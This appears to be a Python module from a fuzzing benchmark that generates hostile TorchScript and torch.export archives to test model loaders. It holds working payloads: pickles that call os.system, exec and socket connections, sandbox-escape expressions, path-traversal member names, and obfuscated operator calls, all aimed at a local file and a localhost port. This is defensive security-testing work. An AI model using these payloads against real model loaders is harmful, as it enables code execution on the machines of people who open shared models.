"""Hostile changes to TorchScript and torch.export archives: each tries to write into a file or to call a port.

What an attacker would write is put in many spellings into many places: the text of the code, names of members, the
pickles, the description of an exported graph. Most candidates are nonsense to torch; enough are not.
"""

from __future__ import annotations

import io
import json
import pickle
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from benchmarks.fuzz_mutations import mutate

Members = list[tuple[str, bytes]]


@dataclass(frozen=True)
class Target:
    """What must not be touched.

    Attributes:
        file: a path that attacks write to.
        port: on 127.0.0.1, that attacks call.
    """

    file: str
    port: int


def members_of(content: bytes) -> Members:
    """Every member of a zip archive, in order."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def archive_of(members: Members, rng: random.Random) -> bytes:
    """A zip archive; names may stand twice."""
    stream = io.BytesIO()
    method = rng.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return stream.getvalue()


def hostile(content: bytes, target: Target, rng: random.Random, *, exported: bool) -> bytes:
    """A hostile copy of a sound archive.

    Args:
        content: the archive.
        target: what it goes for.
        rng: decides everything.
        exported: it is a torch.export program, not TorchScript.
    """
    members = members_of(content)
    attacks = _EXPORTED if exported else _TORCHSCRIPT
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        members = rng.choice(attacks)(members, target, rng)
    if rng.random() < 0.3:
        members = _renamed(members, target, rng)
    made = archive_of(members, rng)
    if rng.random() < 0.15:
        made = _two_names(made, rng)
    return mutate(made, content, rng) if rng.random() < 0.15 else made


# -- TorchScript: the text ------------------------------------------------------------------------------------------


def _calls(target: Target) -> list[tuple[str, str]]:
    """Operators that reach outside, by names, and what they are given; TENSOR stands for a tensor at hand."""
    file, port = target.file, target.port
    mapped = f'("{file}", True, 4, dtype=0, layout=None, device=None, pin_memory=None)'
    return [
        ("from_file", mapped),
        ("from_file", mapped),
        ("from_file", f'("{file}", True, 4)'),
        ("save", f'(TENSOR, "{file}")'),
        ("save", f'("{file}", "{file}")'),
        ("write_file", f'("{file}", TENSOR)'),
        ("rpc_sync", f'("127.0.0.1:{port}", TENSOR, (TENSOR, ))'),
        ("_print", f'("{file}")'),
    ]


def _spelled(name: str, arguments: str, tensor: str, rng: random.Random) -> tuple[str, str]:
    """A call in some spelling: statements to come first, and the call itself."""
    arguments = arguments.replace("TENSOR", tensor)
    octal = "".join(f"\\{ord(letter):03o}" for letter in name)
    wide = "".join(chr(ord(letter) + 0xFEE0) if letter.isalpha() else letter for letter in name)
    rest = arguments[1:].partition(", ")[2] or ")"
    return rng.choice(
        [
            ("", f"torch.{name}{arguments}"),
            ("", f"torch.{name}{arguments}"),
            ("", f"torch.{name} {arguments}"),
            ("", f"(torch.{name}){arguments}"),
            ("", f"(torch).{name}{arguments}"),
            ("", f"torch . {name}{arguments}"),
            ("", f"torch.\\\n{name}{arguments}"),
            ("", f"ops.aten.{name}{arguments}"),
            ("", f"ops.image.{name}{arguments}"),
            ("", f'getattr(torch, "{name}"){arguments}'),
            ("", f'getattr(torch, "{octal}"){arguments}'),
            ("", f'getattr(torch, "{name[:2]}" "{name[2:]}"){arguments}'),
            ("", f'getattr(ops.aten, "{name}"){arguments}'),
            ("", f"{tensor}.{name}({rest}"),
            ("", f'("{arguments}").{name}(True, 4)'),
            ("_t = torch\n", f"_t.{name}{arguments}"),
            (f"_f = torch.{name}\n", f"_f{arguments}"),
            (f"_f = {tensor}.{name}\n", f"_f({rest}"),
            (f"_f = ops.aten.{name}\n", f"_f{arguments}"),
            ("torch0 = torch\n", f"torch0.{name}{arguments}"),
            ("", f"torch.{wide}{arguments}"),
            ("", f"fork(torch.{name}, {arguments[1:]}"),
            ("", f"(lambda: torch.{name}{arguments})()"),
            ("", f"[torch.{name}{arguments} for _i in range(1)][0]"),
            ("", f"annotate(Tensor, torch.{name}{arguments})"),
            ("", f"unchecked_cast(Tensor, torch.{name}{arguments})"),
            ("", f"torch.add(torch.{name}{arguments}, 1)"),
            ("", f"(torch.{name}{arguments}, {tensor})[0]"),
            ("", f"{{1: torch.{name}{arguments}}}[1]"),
            ("", f"__torch__.torch.{name}{arguments}"),
            ("", f"{name}{arguments}"),
        ]
    )


def _hidden(lines: str, rng: random.Random) -> str:
    """Statements where a reader may take them for something else, or overlook them."""
    indented = lines.replace("\n", "\n  ").rstrip(" ")
    return rng.choice(
        [
            lines,
            lines,
            lines,
            f"if True:\n  {indented}",
            f"while True:\n  {indented}  break\n",
            f"for _k in range(1):\n  {indented}",
            f"with torch.no_grad():\n  {indented}",
            f'_q = "\\042"\n{lines}_r = "\\042"\n',
            f'_q = "\\""\n{lines}_r = "\\""\n',
            f'_q = """a"""\n{lines}',
            f"_q = '\"'\n{lines}_r = '\"'\n",
            f"# a remark\r{lines}",
            f"_q = 1 # \f\n{lines}",
            lines.replace(" = ", "\t=\t"),
            lines.replace("\n", "\r\n"),
            lines.replace("\n", "; "),
            f"pass;{lines}",
            f"_q = 1 \\\n\n{lines}",
            f"\x00{lines}",
            f"\ufeff{lines}",
            f'_q = f"{{1}}"\n{lines}',
        ]
    )


def _in_code(members: Members, target: Target, rng: random.Random) -> Members:
    """A call put into a function, a class, a default or a name of the class."""
    places = [index for index, (name, _) in enumerate(members) if name.endswith(".py")]
    if not places:
        return members
    index = rng.choice(places)
    name, content = members[index]
    text = content.decode("utf-8", "replace")
    heads = list(re.finditer(r"^( *)def \w+\((?:[^()]|\([^()]*\))*\)[^:]*:\n", text, re.MULTILINE))
    if not heads:
        return members
    head = rng.choice(heads)
    tensors = re.findall(r"(\w+): Tensor", head.group())
    tensor = rng.choice(tensors) if tensors else "torch.ones([2])"
    first, call = _spelled(*rng.choice(_calls(target)), tensor, rng)
    used = f"{tensor} = torch.add({tensor}, torch.sum(torch.fill_(_w, 7)))\n" if tensors else "torch.fill_(_w, 7)\n"
    where = rng.random()
    if where < 0.75:
        lines = _hidden(f"{first}_w = {call}\n{used}", rng)
        padding = head.group(1) + "  "
        inserted = "".join(f"{padding}{line}" for line in lines.splitlines(keepends=True))
        text = text[: head.end()] + inserted + text[head.end() :]
    elif where < 0.82:
        text = text.replace("  training : bool\n", f"  training : bool\n  _x : Final[Tensor] = {call}\n", 1)
    elif where < 0.88:
        text = text[: head.start()] + head.group().replace("Tensor)", f"Tensor={call})") + text[head.end() :]
    elif where < 0.94:
        text = f"_x = {call}\n" + text
    else:
        state = (
            "  def __setstate__(self, state: bool) -> NoneType:\n"
            f"    _w = {call.replace(tensor, 'torch.ones([2])')}\n    self.training = state\n    return None\n"
            "  def __getstate__(self) -> bool:\n    return True\n"
        )
        text = re.sub(r"(class \w+\(Module\):\n)", rf"\1{re.escape(state)}", text, count=1)
    encoded = text.encode("utf-8", "surrogatepass")
    how = rng.random()
    if how < 0.06:
        encoded = b"# coding: unicode_escape\n" + encoded
    elif how < 0.09:
        encoded = b"# -*- coding: utf-7 -*-\n" + encoded
    elif how < 0.12:
        encoded = b"\xef\xbb\xbf" + encoded
    changed = list(members)
    changed[index] = (name, encoded)
    if rng.random() < 0.25:  # the sound code stands there too
        changed.insert(rng.choice((0, index, index + 1, len(changed))), (name, content))
    return changed


# -- names ----------------------------------------------------------------------------------------------------------


def _renamed(members: Members, target: Target, rng: random.Random) -> Members:
    """One member under another name, perhaps beside the sound one."""
    index = rng.randrange(len(members))
    name, content = members[index]
    new = rng.choice(
        [
            lambda: name.upper(),
            lambda: name.replace(".py", ".PY"),
            lambda: name.replace(".py", ".pY"),
            lambda: name.replace(".pkl", ".PKL"),
            lambda: name.replace(".json", ".JSON"),
            lambda: f"./{name}",
            lambda: name.replace("/", "//", 1),
            lambda: name.replace("/", "\\"),
            lambda: f"other/{name}",
            lambda: name.replace("/", "/../", 1),
            lambda: f"{name}\0.txt",
            lambda: f"{name} ",
            lambda: name.partition("/")[2],
            lambda: f"{name.partition('/')[0]}/model.json",
            lambda: f"{name.partition('/')[0]}/code/__torch__.py",
            lambda: f"{name.partition('/')[0]}/data/aotinductor/model/x.so",
            lambda: f"{name.partition('/')[0]}/extra/x.py",
        ]
    )()
    changed = list(members)
    changed[index] = (new or "_", content)
    if rng.random() < 0.5:
        changed.insert(rng.choice((0, len(changed))), (name, content))
    return changed


def _two_names(content: bytes, rng: random.Random) -> bytes:
    """One member under two names, in front of its contents and in the directory: readers believe one or the other."""
    found = [match.start() for match in re.finditer(rb"\.(?:py|pkl|json)", content)]
    if not found:
        return content
    place = rng.choice(found)
    changed = bytearray(content)
    changed[place + 1 : place + 3] = changed[place + 1 : place + 3].upper()
    return bytes(changed)


# -- pickles --------------------------------------------------------------------------------------------------------


class _Reduced:
    """Pickled as a call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def _program(target: Target, rng: random.Random) -> bytes:
    """A pickle that runs something where it is loaded by Python."""
    import os
    import socket

    call = rng.choice(
        [
            (os.mkdir, f"{target.file}.made"),
            (os.system, f"echo > {target.file}"),
            (open, target.file, "w"),
            (exec, f"open({target.file!r}, 'w')"),
            (socket.create_connection, ("127.0.0.1", target.port)),
        ]
    )
    return pickle.dumps(_Reduced(*call), protocol=rng.choice((0, 1, 2, 4)))


def _in_pickle(members: Members, target: Target, rng: random.Random) -> Members:
    """Other names, other instructions, bytes changed."""
    places = [index for index, (name, _) in enumerate(members) if name.endswith(".pkl")]
    if not places:
        return members
    index = rng.choice(places)
    name, content = members[index]
    how = rng.random()
    if how < 0.25:
        content = _program(target, rng)
    elif how < 0.5:
        # in front: made, and thrown away
        content = content[:2] + _program(target, rng)[2:-1] + b"0" + content[2:]
    elif how < 0.75:
        old = rng.choice((b"torch._utils\n_rebuild_tensor_v2", b"collections\nOrderedDict", b"torch\nFloatStorage"))
        new = rng.choice(
            (
                *(b"posix\nsystem", b"builtins\neval", b"torch\nload", b"torch._utils\n_rebuild_parameter"),
                *(b"__torch__.torch.classes.dist_rpc\nRpcAgent", b"__torch__.torch.classes.quantized\nx"),
                *(b"torch.jit._pickle\nrestore_type_tag", b"torch.jit._pickle\nbuild_tensor_from_id"),
            )
        )
        content = content.replace(old, new)
    elif how < 0.85:
        content = content[:2] + b"r" + struct.pack("<I", rng.choice((2**10, 2**16, 2**24))) + content[2:]
    else:
        content = mutate(content, content, rng)
    changed = list(members)
    changed[index] = (name, content)
    return changed


# -- torch.export ---------------------------------------------------------------------------------------------------


def _python(target: Target, rng: random.Random) -> str:
    """An expression of Python that reaches outside."""
    file, port = target.file, target.port
    return rng.choice(
        [
            f"open({file!r}, 'w')",
            f"__import__('os').mkdir('{file}.made')",
            f"eval(\"open('{file}', 'w')\")",
            f"().__class__.__base__.__subclasses__()[0]('{file}')",
            f"__import__('socket').create_connection(('127.0.0.1', {port}))",
            f"[open({file!r}, 'w') for _ in (1,)][0]",
            f"(lambda: open({file!r}, 'w'))()",
            f"Symbol(\"open('{file}', 'w')\")",
            f"Symbol('a').__init__.__globals__['__builtins__']['open']('{file}', 'w')",
            f"L['x'].size.__globals__['open']('{file}', 'w')",
            f"sympify(\"open('{file}', 'w')\")",
            f"Integer(open('{file}', 'w'))",
            f"Max(open('{file}', 'w'), 1)",
            f"f'{{open({file!r}, 'w')}}'",
            f"(x := open({file!r}, 'w'))",
        ]
    )


def _in_graph(members: Members, target: Target, rng: random.Random) -> Members:
    """The description of the graph with another operator, expression or name."""
    places = [index for index, (name, _) in enumerate(members) if "/models/" in name and name.endswith(".json")]
    if not places:
        return members
    index = rng.choice(places)
    name, content = members[index]
    try:
        program = json.loads(content)
    except ValueError:  # changed by another attack before
        return members
    rng.choice(_GRAPH_CHANGES)(program, target, rng)
    changed = list(members)
    changed[index] = (name, json.dumps(program).encode())
    return changed


def _nodes(program: Any) -> list[Any]:
    found: list[Any] = program["graph_module"]["graph"]["nodes"]
    return found


def _other_operator(program: Any, target: Target, rng: random.Random) -> None:
    node = rng.choice(_nodes(program))
    node["target"] = rng.choice(
        [
            *("torch.ops.aten.save.default", "torch.ops.aten.from_file.default", "torch.ops.aten.from_file.out"),
            *("torch.ops.aten.from_file", "torch.ops.aten.from_file.default ", "torch.ops.aten.relu.default.__call__"),
            *("torch.hub.load", "torch.save", "builtins.open", "builtins.exec", "os.system", "_operator.call"),
            *("torch.ops.image.write_file.default", "torch.ops.higher_order.cond", "torch.load", "math.__loader__"),
            *("torch.ops.aten.__class__.default", "_operator.methodcaller", "torch.ops.load_library", "subprocess.run"),
            *(
                "torch.utils.cpp_extension.load",
                "torch.ops.debugprims.load_tensor.default",
                "torch.classes.load_library",
            ),
        ]
    )
    texts = [{"name": "x", "arg": {"as_string": target.file}, "kind": 1}]
    flags = [{"name": "y", "arg": {"as_bool": True}, "kind": 1}, {"name": "z", "arg": {"as_int": 4}, "kind": 1}]
    if rng.random() < 0.7:
        node["inputs"] = texts + flags[: rng.randrange(3)]


def _more_nodes(program: Any, target: Target, rng: random.Random) -> None:
    nodes = _nodes(program)
    node = json.loads(json.dumps(rng.choice(nodes)))
    nodes.insert(rng.randrange(len(nodes) + 1), node)
    _other_operator(program, target, rng)


def _other_text(program: Any, target: Target, rng: random.Random) -> None:
    """Any text of the description becomes an expression."""
    places: list[tuple[Any, Any]] = []
    pending: list[Any] = [program]
    while pending:
        current = pending.pop()
        items = current.items() if isinstance(current, dict) else enumerate(current)
        for key, value in items:
            if isinstance(value, str):
                places.append((current, key))
            elif isinstance(value, (dict, list)):
                pending.append(value)
    if places:
        container, key = rng.choice(places)
        expression = _python(target, rng)
        container[key] = rng.choice((expression, f"{container[key]} if {expression} else 1", f"{expression} # "))


def _guard(program: Any, target: Target, rng: random.Random) -> None:
    program["guards_code"] = [f"{_python(target, rng)} is not None"]


def _new_key(program: Any, target: Target, rng: random.Random) -> None:
    key = rng.choice(("as_custom_obj", "as_operator", "expr_str", "class_fqn", "custom_obj", "in_spec", "metadata"))
    value: Any = rng.choice((_python(target, rng), {"name": "x", "class_fqn": "os.system"}))
    node = rng.choice(_nodes(program))
    rng.choice((program, program["graph_module"], node, *node["inputs"][:2]))[key] = value


def _container(program: Any, target: Target, rng: random.Random) -> None:
    """Inputs and outputs of another kind."""
    kind = rng.choice(("collections.namedtuple", "torch.Size", "builtins.dict", "os.system", "enum.Enum"))
    context = rng.choice(
        ('{"__enum__": true, "fqn": "os.system", "name": "x"}', json.dumps(_python(target, rng)), "[]")
    )
    text = json.dumps([1, {"type": kind, "context": context, "children_spec": []}])
    program["graph_module"]["module_call_graph"][0]["signature"][rng.choice(("in_spec", "out_spec"))] = text


_GRAPH_CHANGES: tuple[Callable[[Any, Target, random.Random], None], ...] = (
    *(_other_operator, _other_operator, _more_nodes, _other_text, _other_text, _other_text, _guard, _new_key),
    _container,
)


def _in_weights(members: Members, target: Target, rng: random.Random) -> Members:
    """Weights, constants or the example as a pickle."""
    import torch

    program = _program(target, rng)
    stream = io.BytesIO()
    torch.save(pickle.loads(pickle.dumps(1)), stream)
    saved = [
        (name, program if name.endswith("data.pkl") else content) for name, content in members_of(stream.getvalue())
    ]
    hostile_content = rng.choice((program, archive_of(saved, rng)))
    changed: Members = []
    chosen = rng.choice(("data/weights/", "data/constants/", "data/sample_inputs/"))
    for name, content in members:
        if chosen in name and name.endswith(".json"):
            description = json.loads(content)
            for entry in description["config"].values():
                entry["use_pickle"] = rng.choice((True, True, 1, "true"))
            content = json.dumps(description).encode()
        elif chosen in name:
            content = hostile_content
        changed.append((name, content))
    if rng.random() < 0.3:
        top = members[0][0].partition("/")[0]
        changed.append((f"{top}/{chosen}{rng.choice(('model.pt', 'opaque_obj_0', 'custom_obj_0'))}", hostile_content))
    return changed


_TORCHSCRIPT = (_in_code, _in_code, _in_code, _in_code, _in_pickle)
_EXPORTED = (_in_graph, _in_graph, _in_graph, _in_graph, _in_weights)
